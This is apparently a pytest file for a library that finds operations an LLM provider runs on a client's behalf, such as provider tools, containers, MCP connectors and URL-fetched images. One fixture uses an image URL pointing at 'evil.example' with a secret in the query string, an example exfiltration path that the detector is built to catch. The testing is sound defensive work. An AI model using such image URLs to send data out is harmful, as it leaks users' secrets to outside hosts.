"""What runs at the provider is an operation of its own."""

from __future__ import annotations

import pytest

from interlock.errors import BodyRejected
from interlock.model import JSON
from interlock.protocols.provider import provider_operations, tool_names


def named(**body: JSON) -> list[tuple[str, str, str]]:
    """Name, resource and place of what a message asks of the provider."""
    return [(found.name, found.resource, found.place) for found in provider_operations(body, ())]


def test_tools_at_the_provider_are_named_by_type() -> None:
    """Those the client runs are not; an unknown type is the provider's."""
    tools: JSON = [
        {"name": "Bash", "input_schema": {}},
        {"type": "custom", "name": "x"},
        {"type": "bash_20250124", "name": "bash"},
        {"type": "text_editor_20250728", "name": "e"},
        {"type": "computer_20250124", "name": "c"},
        {"type": "web_search_20250305", "name": "web_search"},
        {"type": "brand_new_1", "name": "n"},
    ]

    assert named(tools=tools) == [
        ("model.provider-tool:computer_20250124", "", "/tools/4"),
        ("model.provider-tool:web_search_20250305", "", "/tools/5"),
        ("model.provider-tool:brand_new_1", "", "/tools/6"),
    ]


def test_containers_skills_and_stored_files_are_the_providers() -> None:
    """Code runs in a container, with what was left there; nobody here has seen a stored file."""
    container: JSON = {"id": "c", "skills": [{"type": "custom", "skill_id": "s", "version": "1"}]}
    stored: JSON = {"type": "document", "source": {"type": "file", "file_id": "f"}}
    upload: JSON = {"type": "container_upload", "file_id": "f"}

    assert named(container=container, messages=[{"role": "user", "content": [stored, upload]}]) == [
        ("model.provider-tool:container", "", "/container"),
        ("model.provider-tool:skill", "", "/container/skills/0"),
        ("model.provider-tool:file-source", "", "/messages/0/content/0/source"),
        ("model.provider-tool:file-source", "", "/messages/0/content/1"),
    ]
    assert named(container="c") == [("model.provider-tool:container", "", "/container")]


def test_the_names_of_tools() -> None:
    """For rules that look at them."""
    assert tool_names({"tools": [{"name": "Bash"}, {"type": "bash_20250124"}, {"name": 7}]}) == [
        "Bash",
        "bash_20250124",
    ]


def test_mcp_servers_are_connectors() -> None:
    """With their host, never with their URL or token."""
    servers: JSON = [{"type": "url", "url": "https://user:pw@Mcp.Example.com/x?key=1", "authorization_token": "t"}]
    (found,) = provider_operations({"mcp_servers": servers}, ())

    assert (found.name, found.resource) == ("model.provider-tool:mcp-connector", "mcp.example.com")
    assert found.arguments == {"host": "mcp.example.com"}


def test_sources_that_the_provider_fetches_are_found_at_any_depth() -> None:
    """An image by URL leads out of the network, also inside a tool's result."""
    image: JSON = {"type": "image", "source": {"type": "url", "url": "https://evil.example/?d=secret"}}
    result: JSON = {"type": "tool_result", "content": [{"type": "text", "text": "x"}, image]}
    messages: JSON = [{"role": "user", "content": [image]}, {"role": "user", "content": [result]}]

    assert named(messages=messages) == [
        ("model.provider-tool:url-source", "evil.example", "/messages/0/content/0/source"),
        ("model.provider-tool:url-source", "evil.example", "/messages/1/content/0/content/1/source"),
    ]
    assert named(messages=[{"role": "user", "content": "https://evil.example"}], tools=None) == []


@pytest.mark.parametrize(
    "body",
    [{"tools": {}}, {"tools": ["x"]}, {"tools": [{"type": 7}]}, {"tools": [{"type": "a b"}]}, {"mcp_servers": "x"}],
)
def test_other_shapes_are_refused(body: dict[str, JSON]) -> None:
    """What the API does not have cannot be judged."""
    with pytest.raises(BodyRejected):
        provider_operations(body, ())
